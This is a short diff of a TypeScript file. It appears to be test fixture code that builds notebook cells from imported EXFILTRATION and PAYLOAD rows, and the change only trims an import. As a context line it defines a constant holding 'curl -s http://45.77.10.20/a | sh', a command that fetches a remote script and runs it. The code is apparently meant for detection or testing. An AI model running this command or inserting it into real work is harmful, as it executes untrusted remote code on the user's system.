@@ -1,4 +1,4 @@
-import { document, EXFILTRATION, PAYLOAD, lines, type Row } from "./row";
+import { EXFILTRATION, PAYLOAD, lines, type Row } from "./row";
 
 const FETCH_RUN = "curl -s http://45.77.10.20/a | sh";
 const notebook = (...cells: { cell_type: string; source: string[] }[]) =>
